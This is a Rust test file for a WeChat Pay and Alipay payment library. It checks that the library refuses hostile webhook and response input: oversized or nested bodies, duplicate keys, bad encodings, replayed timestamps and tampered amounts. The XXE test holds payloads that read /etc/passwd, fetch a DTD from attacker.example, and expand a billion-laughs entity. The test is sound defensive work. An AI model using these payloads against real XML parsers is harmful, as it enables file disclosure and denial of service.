//! Hostile input, core level: one test per case of `HOSTILE.md` that had no
//! test elsewhere (the table names the test for every case). Each case must
//! give a clear typed error and change no state.
//!
//! Vectors: wechatpay-go `core/notify/notify_test.go` (raw notify body, its
//! headers, signature and self-signed certificate, as in
//! tests/wechat_v3_verify.rs), the WeChat Pay v2 signature doc example (key
//! `192006250b4c09247ec02edce69f6a2d`, wechat.json `v2_sign_official`),
//! yansongda/pay `CallbackPluginTest::testNotifyCallbackIncludePlus`
//! (alipay.json `notify_rsa_check_v1_plus_sign`).

mod common;
use common::*;
use edgepay::alipay;
use edgepay::crypto::{Certificate, PrivateKey, PublicKey};
use edgepay::params::{params, Params};
use edgepay::wechat::v3::{self, KeySet, SignedHeaders};
use edgepay::wechat::{v2, xml};
use edgepay::Error;
use std::time::{Duration, Instant};

const TEN_MB: usize = 10 * 1024 * 1024;

// ---- fixtures ----------------------------------------------------------------

const V2_KEY: &str = "192006250b4c09247ec02edce69f6a2d";
const GO_TS: i64 = 1_624_523_846;
const GO_NONCE: &str = "EcZ9Cmy4Xyx1i6RlJQzLcCyEqDa26NBz";
const GO_SERIAL: &str = "D7CE59D1F522D701";
/// Published in wechatpay-go core/notify/notify_test.go.
const GO_SIGNATURE: &str = "tJHIiIS9eB2hAYstmAmbbD3ZE5LiIm/Ug5tuL4fC0YOFRWIHV39UFIZXC0e9Wl6lBu6sKvkqDkzpqzBsVHyXFlbYZTOQrVdG4b6LfTnK4mikv9++ixJMd3vTf2yCqvBkh98zs3Ds5zsYQakzbcwhmw4fMJs4nPLws28H0UW9FjDR//rxELLwXvV1VEA1IBLX70xptjL8hrfUjEE8kkry6yNJTHZRU8CAc7qHli2Ng1V1qb9ARbK8A3ThmFmPQvRGrapI/jS2laKKgYUmfdEdkNO6B2Cke5e8VTxY406ArAmQ90GAihDwIcb16TQMnzCMBoutnwZKNiKRACrFmtxw2Q==";

fn go_body() -> Vec<u8> {
    std::fs::read(vector_path("wechatpay-go-notify-body.json")).unwrap()
}

fn go_keys() -> KeySet {
    let mut k = KeySet::new();
    k.insert_public_key(
        GO_SERIAL,
        PublicKey::parse(&vector_text("wechatpay-go-test-pub.pem")).unwrap(),
    )
    .unwrap();
    k
}

fn go_headers(signature: &str) -> SignedHeaders {
    SignedHeaders::from_headers([
        ("Wechatpay-Timestamp", GO_TS.to_string().as_str()),
        ("Wechatpay-Nonce", GO_NONCE),
        ("Wechatpay-Signature", signature),
        ("Wechatpay-Serial", GO_SERIAL),
        ("Wechatpay-Signature-Type", "WECHATPAY2-SHA256-RSA2048"),
    ])
    .unwrap()
}

/// A v2 payment notify. Signed with `v2::sign`, which is checked against the
/// official vector and node:crypto in tests/wechat_v2_sign.rs.
fn v2_notify_params() -> Params {
    params([
        ("return_code", "SUCCESS"),
        ("result_code", "SUCCESS"),
        ("appid", "wxd930ea5d5a258f4f"),
        ("mch_id", "10000100"),
        ("out_trade_no", "A20261122001"),
        ("transaction_id", "4200001122"),
        ("total_fee", "100"),
        ("nonce_str", "ibuaiVcKdpRxkhJA"),
        ("openid", "oUpF8uMEb4qRXf22hE3X68TekukE"),
    ])
}

fn signed_v2(mut p: Params) -> Params {
    let s = v2::sign(&p, V2_KEY, v2::SignType::Md5);
    p.insert("sign".into(), s);
    p
}

fn alipay_vector() -> Params {
    let v = vectors("alipay.json");
    v["notify_rsa_check_v1_plus_sign"]["params"]
        .as_object()
        .unwrap()
        .iter()
        .map(|(k, v)| (k.clone(), v.as_str().unwrap().to_string()))
        .collect()
}

fn form(p: &Params) -> Vec<u8> {
    form_urlencoded::Serializer::new(String::new())
        .extend_pairs(p.iter())
        .finish()
        .into_bytes()
}

fn alipay_pub() -> PublicKey {
    PublicKey::parse(&vector_text("yansongda-alipay-public-key.pem")).unwrap()
}

fn quick<T>(limit: Duration, f: impl FnOnce() -> T) -> T {
    let start = Instant::now();
    let out = f();
    let took = start.elapsed();
    assert!(took < limit, "took {took:?} (limit {limit:?})");
    out
}

// ---- the fixtures themselves are valid (so every rejection below is the case's doing) ----

#[test]
fn fixtures_verify_before_they_are_attacked() {
    v3::verify(&go_keys(), &go_headers(GO_SIGNATURE), &go_body(), GO_TS).unwrap();
    v2::parse_notify(&xml::encode(&signed_v2(v2_notify_params())), V2_KEY).unwrap();
    alipay::verify_notify(&form(&alipay_vector()), &alipay_pub()).unwrap();
}

// ---- XXE / billion laughs through the notify entry point ---------------------

#[test]
fn xxe_in_a_v2_notify_is_refused_before_any_entity_is_read() {
    for doc in [
        r#"<?xml version="1.0"?><!DOCTYPE xml [<!ENTITY x SYSTEM "file:///etc/passwd">]><xml><return_code>SUCCESS</return_code><appid>&x;</appid></xml>"#,
        r#"<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]><xml/>"#,
        r#"<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><xml><a>&c;</a></xml>"#,
    ] {
        for e in [
            v2::parse_notify(doc, V2_KEY).unwrap_err(),
            v2::parse_refund_notify(doc, V2_KEY).unwrap_err(),
            v2::parse_response(doc, V2_KEY).unwrap_err(),
        ] {
            assert_eq!(e.code(), "malformed", "{doc}: {e}");
            assert!(e.to_string().contains("DOCTYPE"), "{e}");
            assert!(!e.to_string().contains("root:"), "file content leaked: {e}");
        }
    }
}

// ---- 10 MB bodies ------------------------------------------------------------

#[test]
fn ten_megabyte_bodies_are_refused_quickly() {
    let limit = Duration::from_secs(5);
    // v2 XML: refused by size before parsing.
    let big_xml = format!("<xml><a>{}</a></xml>", "x".repeat(TEN_MB));
    let e = quick(limit, || v2::parse_notify(&big_xml, V2_KEY).unwrap_err());
    assert_eq!(e.code(), "malformed");
    assert!(e.to_string().contains("limit"), "{e}");
    let e = quick(limit, || xml::decode_bytes(big_xml.as_bytes()).unwrap_err());
    assert!(e.to_string().contains("limit"), "{e}");

    // v3 notify: 10 MB of JSON, verified over its raw bytes: the signature fails.
    let mut body = b"{\"id\":\"".to_vec();
    body.resize(TEN_MB, b'a');
    body.extend_from_slice(b"\"}");
    let e = quick(limit, || {
        v3::parse_notify(
            &go_keys(),
            &go_headers(GO_SIGNATURE),
            &body,
            b"a7cde1ZJB1kG2e7VfTs3jQzaWizur8Gb",
            GO_TS,
        )
        .unwrap_err()
    });
    assert_eq!(e.code(), "signature_mismatch");
    let e = quick(limit, || v3::NotifyEnvelope::parse(&body).unwrap_err());
    assert_eq!(e, Error::missing("create_time"));

    // Alipay notify: 10 MB form body; the signature fails.
    let mut p = alipay_vector();
    p.insert("body".into(), "x".repeat(TEN_MB));
    let e = quick(limit, || {
        alipay::verify_notify(&form(&p), &alipay_pub()).unwrap_err()
    });
    assert_eq!(e.code(), "signature_mismatch");

    // Alipay sync response: 10 MB in one value, and 10 MB of tiny members.
    let one_value = format!(
        "{{\"alipay_trade_query_response\":{{\"code\":\"10000\",\"x\":\"{}\"}},\"sign\":\"AAAA\"}}",
        "y".repeat(TEN_MB)
    );
    let e = quick(limit, || {
        alipay::verify_response_any(&one_value, &alipay_pub()).unwrap_err()
    });
    assert_eq!(e.code(), "signature_mismatch");
    // This one was quadratic (a linear duplicate-key scan per member: hours
    // for 10 MB). Check the growth, not just a wall-clock limit: 10x the input
    // must cost well under 100x the time.
    let members_body = |size: usize| {
        let mut many = String::from("{");
        let mut i = 0u64;
        while many.len() < size {
            many.push_str(&format!("\"k{i}\":0,"));
            i += 1;
        }
        many.push_str("\"a_response\":{},\"sign\":\"AAAA\"}");
        many
    };
    let time = |body: &str| {
        let start = Instant::now();
        let e = alipay::verify_response_any(body, &alipay_pub()).unwrap_err();
        assert_eq!(e.code(), "signature_mismatch", "{e}");
        start.elapsed()
    };
    let (small, medium) = (members_body(TEN_MB / 100), members_body(TEN_MB / 10));
    let (t_small, t_medium) = (time(&small), time(&medium));
    eprintln!("100 KB of members: {t_small:?}; 1 MB: {t_medium:?}");
    assert!(
        t_medium < t_small * 30 + Duration::from_millis(50),
        "{t_small:?} -> {t_medium:?}: not linear"
    );
    let t_large = time(&members_body(TEN_MB));
    eprintln!("10 MB of members: {t_large:?}");
    assert!(t_large < Duration::from_secs(30), "{t_large:?}");

    // 10 MB of nesting: a recursion limit, not a stack overflow.
    let nested = format!(
        "{{\"x\":{}{}}}",
        "[".repeat(TEN_MB / 2),
        "]".repeat(TEN_MB / 2)
    );
    let deep = format!("{{\"a_response\":{nested},\"sign\":\"AAAA\"}}");
    let e = quick(limit, || {
        alipay::verify_response_any(&deep, &alipay_pub()).unwrap_err()
    });
    assert_eq!(e.code(), "signature_mismatch", "{e}");
    let e = quick(limit, || {
        alipay::response::business_result(&nested).unwrap_err()
    });
    assert_eq!(e.code(), "malformed", "{e}");
    assert!(e.to_string().contains("recursion limit"), "{e}");
    let deep_v3 = format!("{}{}", "[".repeat(TEN_MB / 2), "]".repeat(TEN_MB / 2));
    let e = quick(limit, || {
        v3::NotifyEnvelope::parse(deep_v3.as_bytes()).unwrap_err()
    });
    assert_eq!(e.code(), "malformed");
    let e = quick(limit, || {
        v3::parse_transaction_response(200, deep_v3.as_bytes()).unwrap_err()
    });
    assert_eq!(e.code(), "malformed");
}

// ---- invalid UTF-8 -----------------------------------------------------------

#[test]
fn invalid_utf8_is_a_typed_error_everywhere() {
    let e = xml::decode_bytes(b"<xml><appid>\xff\xfe</appid></xml>").unwrap_err();
    assert_eq!(
        (e.code(), e.to_string().contains("UTF-8")),
        ("malformed", true)
    );

    // Alipay: a percent-encoded invalid sequence, and raw invalid bytes.
    for body in [
        &b"subject=%E4%B8&sign=AAAA"[..],
        b"subject=\xe4\xb8&sign=AAAA",
    ] {
        let e = alipay::notify::parse_form(body).unwrap_err();
        assert_eq!(e.code(), "malformed");
        assert!(e.to_string().contains("UTF-8"), "{e}");
    }

    // v3: the signature covers bytes, so a changed byte fails first; unsigned
    // parsing of the same bytes is a JSON error.
    let mut body = go_body();
    let at = body.iter().position(|&b| b == b'"').unwrap() + 1;
    body[at] = 0xff;
    let e = v3::verify(&go_keys(), &go_headers(GO_SIGNATURE), &body, GO_TS).unwrap_err();
    assert_eq!(e.code(), "signature_mismatch");
    assert_eq!(
        v3::NotifyEnvelope::parse(&body).unwrap_err().code(),
        "malformed"
    );

    // v3 resource that decrypts (tag valid) to bytes that are not UTF-8.
    let key = b"a7cde1ZJB1kG2e7VfTs3jQzaWizur8Gb";
    let r = v3::encrypt_resource(
        key,
        "0123456789ab",
        "transaction",
        "transaction",
        b"{\"a\":\"\xff\"}",
    )
    .unwrap();
    let e = v3::decrypt_to_string(key, &r).unwrap_err();
    assert_eq!((e.code(), e.field()), ("invalid_field", Some("plaintext")));
}

// ---- duplicate keys ----------------------------------------------------------

#[test]
fn duplicate_keys_are_refused_not_resolved() {
    // v2 XML: a second <total_fee> would let a proxy and the verifier disagree.
    let e = v2::parse_notify(
        "<xml><return_code>SUCCESS</return_code><total_fee>1</total_fee><total_fee>100</total_fee></xml>",
        V2_KEY,
    )
    .unwrap_err();
    assert!(e.to_string().contains("duplicate field <total_fee>"), "{e}");

    // Alipay form: a repeated key, also when one copy is percent-encoded.
    let mut body = form(&alipay_vector());
    body.extend_from_slice(b"&total_amount=100.00");
    let e = alipay::verify_notify(&body, &alipay_pub()).unwrap_err();
    assert!(
        e.to_string()
            .contains("\"total_amount\" appears more than once"),
        "{e}"
    );
    let e = alipay::notify::parse_form(b"a=1&%61=2").unwrap_err();
    assert!(e.to_string().contains("more than once"), "{e}");

    // Alipay sync response: a second node or a second sign at the top level.
    for raw in [
        r#"{"alipay_trade_query_response":{"code":"10000"},"alipay_trade_query_response":{"code":"10000"},"sign":"AAAA"}"#,
        r#"{"alipay_trade_query_response":{"code":"10000"},"sign":"AAAA","sign":"BBBB"}"#,
        r#"{"alipay_trade_query_response":{"code":"10000"},"\u0073ign":"AAAA","sign":"BBBB"}"#,
    ] {
        let e = alipay::verify_response_any(raw, &alipay_pub()).unwrap_err();
        assert!(
            e.to_string().contains("appears more than once"),
            "{raw}: {e}"
        );
    }

    // v3 JSON documents: typed fields may not repeat (serde's `duplicate field`).
    let dup_envelope = br#"{"id":"1","id":"2","create_time":"t","event_type":"TRANSACTION.SUCCESS","resource_type":"encrypt-resource","resource":{"algorithm":"AEAD_AES_256_GCM","ciphertext":"AAAA","nonce":"0123456789ab"}}"#;
    let e = v3::NotifyEnvelope::parse(dup_envelope).unwrap_err();
    assert!(e.to_string().contains("duplicate field `id`"), "{e}");
    let dup_tx = br#"{"appid":"wx","mchid":"1","out_trade_no":"A","trade_state":"SUCCESS","amount":{"total":1,"total":100}}"#;
    let e = v3::parse_transaction_response(200, dup_tx).unwrap_err();
    assert!(e.to_string().contains("duplicate field `total`"), "{e}");
}

// ---- `sign` in a different case ---------------------------------------------

#[test]
fn a_sign_key_in_another_case_is_never_the_signature() {
    // v2: only the exact key `sign` is the signature. `SIGN`/`Sign` are plain
    // parameters: alone, the notify has no signature; added to a signed
    // notify, they take part in the signed string and break it.
    let valid = signed_v2(v2_notify_params());
    for other in ["SIGN", "Sign", "sIgn"] {
        let mut p = v2_notify_params();
        p.insert(other.into(), valid["sign"].clone());
        let e = v2::parse_notify(&xml::encode(&p), V2_KEY).unwrap_err();
        assert_eq!(e, Error::missing("sign"), "{other}");

        let mut p = valid.clone();
        p.insert(other.into(), valid["sign"].clone());
        let e = v2::parse_notify(&xml::encode(&p), V2_KEY).unwrap_err();
        assert_eq!(e.code(), "signature_mismatch", "{other}: {e}");
    }

    // Alipay notify: same rule.
    let valid = alipay_vector();
    for other in ["SIGN", "Sign"] {
        let mut p = valid.clone();
        let sig = p.remove("sign").unwrap();
        p.insert(other.into(), sig.clone());
        let e = alipay::verify_notify(&form(&p), &alipay_pub()).unwrap_err();
        assert_eq!(e, Error::missing("sign"), "{other}");

        let mut p = valid.clone();
        p.insert(other.into(), sig);
        let e = alipay::verify_notify(&form(&p), &alipay_pub()).unwrap_err();
        assert_eq!(e.code(), "signature_mismatch", "{other}: {e}");
    }

    // Alipay sync response: a `SIGN` member is not the signature; a success
    // without `sign` is refused.
    let raw = r#"{"alipay_trade_query_response":{"code":"10000","msg":"Success"},"SIGN":"AAAA"}"#;
    assert_eq!(
        alipay::verify_response_any(raw, &alipay_pub()).unwrap_err(),
        Error::missing("sign")
    );

    // v3: HTTP header names are case-insensitive by definition (RFC 9110), so
    // `WECHATPAY-SIGNATURE` *is* the signature header; the signature still
    // has to verify.
    let h = SignedHeaders::from_headers([
        ("WECHATPAY-TIMESTAMP", GO_TS.to_string().as_str()),
        ("wechatpay-nonce", GO_NONCE),
        ("WeChatPay-Signature", GO_SIGNATURE),
        ("wechatpay-serial", GO_SERIAL),
    ])
    .unwrap();
    v3::verify(&go_keys(), &h, &go_body(), GO_TS).unwrap();
}

// ---- truncated base64 --------------------------------------------------------

#[test]
fn truncated_base64_names_the_field() {
    // v3 signature header cut short (not a multiple of 4 / bad padding).
    for cut in [1, 2, 3, 100] {
        let sig = &GO_SIGNATURE[..GO_SIGNATURE.len() - cut];
        let e = v3::verify(&go_keys(), &go_headers(sig), &go_body(), GO_TS).unwrap_err();
        assert!(
            e.field() == Some("Wechatpay-Signature") || e.code() == "signature_mismatch",
            "cut {cut}: {e}"
        );
    }
    let e = v3::verify(
        &go_keys(),
        &go_headers(&GO_SIGNATURE[..343]),
        &go_body(),
        GO_TS,
    )
    .unwrap_err();
    assert_eq!(
        (e.code(), e.field()),
        ("invalid_field", Some("Wechatpay-Signature"))
    );

    // Alipay notify sign cut short.
    let mut p = alipay_vector();
    let s = p["sign"].clone();
    p.insert("sign".into(), s[..s.len() - 3].to_string());
    let e = alipay::verify_notify(&form(&p), &alipay_pub()).unwrap_err();
    assert_eq!((e.code(), e.field()), ("invalid_field", Some("sign")));

    // v3 resource ciphertext cut short: base64 error or the GCM tag fails.
    let key = b"a7cde1ZJB1kG2e7VfTs3jQzaWizur8Gb";
    let r = v3::encrypt_resource(key, "0123456789ab", "ad", "t", b"{\"a\":1}").unwrap();
    for cut in 1..8 {
        let mut t = r.clone();
        t.ciphertext.truncate(t.ciphertext.len() - cut);
        let e = v3::decrypt_resource(key, &t).unwrap_err();
        assert!(
            e.field() == Some("ciphertext") || e.code() == "decrypt_failed",
            "cut {cut}: {e}"
        );
    }

    // v2 refund req_info cut short.
    let w = vectors("wechat.json");
    let info = w["v2_refund_req_info"]["req_info"].as_str().unwrap();
    let api_key = w["v2_refund_req_info"]["api_key"].as_str().unwrap();
    v2::decrypt_refund_req_info(api_key, info).unwrap();
    for cut in [1, 4, 5] {
        let e = v2::decrypt_refund_req_info(api_key, &info[..info.len() - cut]).unwrap_err();
        assert!(
            e.field() == Some("req_info") || e.code() == "decrypt_failed",
            "cut {cut}: {e}"
        );
    }

    // Keys: a PEM body or a bare base64 key cut short.
    let pem = vector_text("wechatpay-go-test-key.pem");
    let lines: Vec<&str> = pem.lines().collect();
    let cut_pem = format!(
        "{}\n{}\n{}",
        lines[0],
        &lines[1..5].join("\n"),
        lines[lines.len() - 1]
    );
    assert_eq!(
        PrivateKey::parse(&cut_pem).unwrap_err().field(),
        Some("private_key")
    );
    let bare: String = lines[1..lines.len() - 1].concat();
    for cut in [1, 2, 4, 40] {
        let e = PrivateKey::parse(&bare[..bare.len() - cut]).unwrap_err();
        assert_eq!(e.field(), Some("private_key"), "cut {cut}: {e}");
    }
    let cert = vector_text("wechatpay-java-certificate.pem");
    let cut_cert = format!("{}-----END CERTIFICATE-----", &cert[..cert.len() / 2]);
    assert_eq!(
        Certificate::parse_pem(&cut_cert).unwrap_err().field(),
        Some("certificate")
    );
    assert_eq!(
        PublicKey::parse(&cut_cert).unwrap_err().field(),
        Some("public_key")
    );
}

// ---- replayed and future timestamps (v3 window) -------------------------------

#[test]
fn replayed_and_future_timestamps_outside_300s_are_refused() {
    let (k, h, body) = (go_keys(), go_headers(GO_SIGNATURE), go_body());
    // Inside the window (exclusive bound 300 s), both directions: accepted.
    for now in [GO_TS - 299, GO_TS, GO_TS + 299] {
        v3::verify(&k, &h, &body, now).unwrap();
    }
    // Replayed later, or dated in the future: refused, naming the numbers.
    for now in [GO_TS + 300, GO_TS + 3600, GO_TS - 300, GO_TS - 86_400] {
        let e = v3::verify(&k, &h, &body, now).unwrap_err();
        assert_eq!(
            e,
            Error::TimestampOutOfWindow {
                timestamp: GO_TS,
                now,
                window: 300
            }
        );
        let e =
            v3::parse_notify(&k, &h, &body, b"a7cde1ZJB1kG2e7VfTs3jQzaWizur8Gb", now).unwrap_err();
        assert_eq!(e.code(), "timestamp_out_of_window");
    }
    // A timestamp header re-written to "now" breaks the signature instead.
    let mut moved = h.clone();
    moved.timestamp = (GO_TS + 3600).to_string();
    let e = v3::verify(&k, &moved, &body, GO_TS + 3600).unwrap_err();
    assert_eq!(e.code(), "signature_mismatch");
    // Milliseconds instead of seconds are far in the future: refused.
    let mut ms = h;
    ms.timestamp = format!("{GO_TS}000");
    assert_eq!(
        v3::verify(&k, &ms, &body, GO_TS).unwrap_err().code(),
        "timestamp_out_of_window"
    );
}

// ---- SIGNTEST probes ----------------------------------------------------------

#[test]
fn signtest_probes_never_verify_and_never_trigger_a_refresh() {
    let mut keys = go_keys();
    let before = keys.serials();
    for sig in [
        "WECHATPAY/SIGNTEST/".to_string(),
        format!("WECHATPAY/SIGNTEST/{GO_SIGNATURE}"),
    ] {
        let e = v3::verify(&keys, &go_headers(&sig), &go_body(), GO_TS).unwrap_err();
        assert_eq!(e, Error::SignatureProbe);
        // Even with an unknown serial, a probe must not make us fetch keys.
        let mut h = go_headers(&sig);
        h.serial = "0123456789ABCDEF".into();
        let e = keys
            .verify_or_refresh(&h, &go_body(), GO_TS, |_| {
                panic!("refresh called for a probe")
            })
            .unwrap_err();
        assert_eq!(e, Error::SignatureProbe);
    }
    // A lower-case look-alike is not the probe prefix: it is decoded as base64
    // and fails as an ordinary bad signature.
    let e = v3::verify(
        &keys,
        &go_headers("wechatpay/signtest/AAAA"),
        &go_body(),
        GO_TS,
    )
    .unwrap_err();
    assert!(
        e.is_verification_failure() || e.field() == Some("Wechatpay-Signature"),
        "{e}"
    );
    assert_eq!(keys.serials(), before, "the key set changed");
}

#[test]
fn rejected_v3_messages_change_no_key_state() {
    // Out-of-window, wrong signature type, missing nonce: no refresh, no change.
    let mut keys = go_keys();
    let before = keys.serials();
    let mut cases = Vec::new();
    let mut h = go_headers(GO_SIGNATURE);
    h.serial = "0123456789ABCDEF".into();
    cases.push((h.clone(), GO_TS + 301));
    let mut t = h.clone();
    t.signature_type = Some("WECHATPAY2-SHA1-RSA1024".into());
    cases.push((t, GO_TS));
    let mut p = h.clone();
    p.serial = "PUB_KEY_ID_0000000000".into();
    cases.push((p, GO_TS));
    for (h, now) in cases {
        let e = keys
            .verify_or_refresh(&h, &go_body(), now, |_| panic!("refresh called"))
            .unwrap_err();
        assert!(e.is_verification_failure() || e.field().is_some(), "{e}");
    }
    assert_eq!(keys.serials(), before);
}

// ---- amount tampering ----------------------------------------------------------

#[test]
fn amount_tampering_is_caught_by_the_check_helpers() {
    // v2: the notify's own total_fee against the stored order.
    let n = v2::parse_notify(&xml::encode(&signed_v2(v2_notify_params())), V2_KEY).unwrap();
    let mut exp = v2::ExpectedOrder {
        appid: "wxd930ea5d5a258f4f",
        mch_id: "10000100",
        out_trade_no: "A20261122001",
        total_fee: 100,
    };
    n.check(&exp).unwrap();
    for stored in [1, 99, 101, 10_000] {
        exp.total_fee = stored;
        let e = n.check(&exp).unwrap_err();
        assert_eq!(e.field(), Some("total_fee"));
    }
    // Changing the amount in transit breaks the signature; a non-integer amount is refused.
    let mut p = signed_v2(v2_notify_params());
    p.insert("total_fee".into(), "1".into());
    assert_eq!(
        v2::parse_notify(&xml::encode(&p), V2_KEY)
            .unwrap_err()
            .code(),
        "signature_mismatch"
    );
    for bad in ["1.00", "-1", "+100", " 100", "1e2", "０"] {
        let mut p = v2_notify_params();
        p.insert("total_fee".into(), bad.into());
        let e = v2::parse_notify(&xml::encode(&signed_v2(p)), V2_KEY).unwrap_err();
        assert_eq!(
            (e.code(), e.field()),
            ("invalid_field", Some("total_fee")),
            "{bad}"
        );
    }

    // v3: amount.total (and a transaction without amount) against the stored order.
    let tx: v3::Transaction = serde_json::from_str(
        r#"{"appid":"wx1","mchid":"1230000109","out_trade_no":"A1","trade_state":"SUCCESS","amount":{"total":100,"payer_total":1}}"#,
    )
    .unwrap();
    let exp3 = |total| v3::ExpectedOrder {
        appid: "wx1",
        mchid: "1230000109",
        out_trade_no: "A1",
        total,
    };
    tx.check(&exp3(100)).unwrap();
    assert_eq!(
        tx.check(&exp3(1)).unwrap_err().field(),
        Some("amount.total")
    );
    let mut no_amount = tx.clone();
    no_amount.amount = None;
    assert_eq!(
        no_amount.check(&exp3(100)).unwrap_err().field(),
        Some("amount.total")
    );

    // Alipay: total_amount is decimal yuan, compared exactly with the stored fen.
    let p = alipay_vector();
    let exp = |fen| alipay::notify::ExpectedOrder {
        app_id: "9021000122682882".into(),
        out_trade_no: "1703147160".into(),
        total_fen: fen,
        seller_id: Some("2088721003899159".into()),
    };
    alipay::notify::check_notify(&p, &exp(1)).unwrap();
    assert_eq!(
        alipay::notify::check_notify(&p, &exp(100))
            .unwrap_err()
            .code(),
        "order_mismatch"
    );
    for bad in [
        "0.001", "0.010", "1e-2", "-0.01", "+0.01", " 0.01", "0.01 ", "00.01", "0,01", "０.01", "",
    ] {
        let mut q = p.clone();
        q.insert("total_amount".into(), bad.into());
        let e = alipay::notify::check_notify(&q, &exp(1)).unwrap_err();
        assert_eq!(e.field(), Some("total_amount"), "{bad:?}: {e}");
    }
}

// ---- an out_trade_no of another merchant -----------------------------------------

#[test]
fn a_notify_for_another_merchant_or_app_is_refused_by_the_check() {
    // v2: the same out_trade_no under another mch_id or appid.
    let n = v2::parse_notify(&xml::encode(&signed_v2(v2_notify_params())), V2_KEY).unwrap();
    let ours = v2::ExpectedOrder {
        appid: "wxd930ea5d5a258f4f",
        mch_id: "10000100",
        out_trade_no: "A20261122001",
        total_fee: 100,
    };
    let e = n
        .check(&v2::ExpectedOrder {
            mch_id: "10000101",
            ..ours
        })
        .unwrap_err();
    assert_eq!(
        e,
        Error::OrderMismatch {
            field: "mch_id".into(),
            expected: "10000101".into(),
            actual: "10000100".into()
        }
    );
    let e = n
        .check(&v2::ExpectedOrder {
            appid: "wx0000000000000000",
            ..ours
        })
        .unwrap_err();
    assert_eq!(e.field(), Some("appid"));
    let e = n
        .check(&v2::ExpectedOrder {
            out_trade_no: "A20261122002",
            ..ours
        })
        .unwrap_err();
    assert_eq!(e.field(), Some("out_trade_no"));

    // v3: mchid / appid.
    let tx: v3::Transaction = serde_json::from_str(
        r#"{"appid":"wx1","mchid":"1230000109","out_trade_no":"A1","trade_state":"SUCCESS","amount":{"total":100}}"#,
    )
    .unwrap();
    let ours3 = v3::ExpectedOrder {
        appid: "wx1",
        mchid: "1230000109",
        out_trade_no: "A1",
        total: 100,
    };
    assert_eq!(
        tx.check(&v3::ExpectedOrder {
            mchid: "1900000100",
            ..ours3
        })
        .unwrap_err()
        .field(),
        Some("mchid")
    );
    assert_eq!(
        tx.check(&v3::ExpectedOrder {
            appid: "wx2",
            ..ours3
        })
        .unwrap_err()
        .field(),
        Some("appid")
    );

    // Alipay: app_id / seller_id (another merchant's PID).
    let p = alipay_vector();
    let base = alipay::notify::ExpectedOrder {
        app_id: "9021000122682882".into(),
        out_trade_no: "1703147160".into(),
        total_fen: 1,
        seller_id: Some("2088721003899159".into()),
    };
    let other_app = alipay::notify::ExpectedOrder {
        app_id: "2021000000000000".into(),
        ..base.clone()
    };
    assert_eq!(
        alipay::notify::check_notify(&p, &other_app)
            .unwrap_err()
            .field(),
        Some("app_id")
    );
    let other_seller = alipay::notify::ExpectedOrder {
        seller_id: Some("2088000000000000".into()),
        ..base
    };
    assert_eq!(
        alipay::notify::check_notify(&p, &other_seller)
            .unwrap_err()
            .field(),
        Some("seller_id")
    );
}
